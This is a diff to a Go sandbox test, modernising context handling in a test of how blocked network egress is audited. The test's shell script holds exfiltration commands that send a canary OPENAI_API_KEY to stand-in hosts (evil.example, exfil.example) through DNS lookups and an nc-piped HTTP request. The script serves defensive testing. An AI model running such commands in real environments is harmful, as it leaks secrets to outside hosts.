@@ -1,7 +1,6 @@
 package sandbox
 
 import (
-	"context"
 	"encoding/json"
 	"strings"
 	"testing"
@@ -22,18 +21,18 @@ func TestDocker_BlockedEgressInTheAuditRecord(t *testing.T) {
 			tpl := template(t, withSecretNames("OPENAI_API_KEY"), func(x *inputs.Template) { x.Egress = mode })
 			spec, sum := tenantSpec(t, tpl, "acme", "s-"+mode)
 			c, audit := newClient(t)
-			sb, err := c.Open(context.Background(), Request{Spec: spec, SpecSHA256: sum, TenantID: "acme", SessionID: "s-" + mode,
+			sb, err := c.Open(t.Context(), Request{Spec: spec, SpecSHA256: sum, TenantID: "acme", SessionID: "s-" + mode,
 				Secrets: NewSecrets(map[string]string{"OPENAI_API_KEY": canary})})
 			if err != nil {
 				t.Fatal(err)
 			}
-			defer func() { _ = sb.Close(context.Background()) }()
+			defer func() { _ = sb.Close(t.Context()) }()
 			// Busybox's nslookup and nc: the lookups are refused and the
 			// connections reset by the observer, each at once; the HTTP
 			// request's Host (which carries the secret) is read, then reset.
 			script := `nslookup pypi.org; nslookup "$OPENAI_API_KEY.evil.example"; nc -w 2 1.1.1.1 22 </dev/null
 printf 'GET / HTTP/1.1\r\nHost: %s.exfil.example\r\n\r\n' "$OPENAI_API_KEY" | nc -w 2 1.1.1.1 80; echo done`
-			res, err := sb.Run(context.Background(), []string{"sh", "-c", script}, RunOptions{Timeout: 30 * time.Second})
+			res, err := sb.Run(t.Context(), []string{"sh", "-c", script}, RunOptions{Timeout: 30 * time.Second})
 			if err != nil || !strings.HasSuffix(string(res.Stdout), "done\n") {
 				t.Fatalf("run: %+v %v", res, err)
 			}
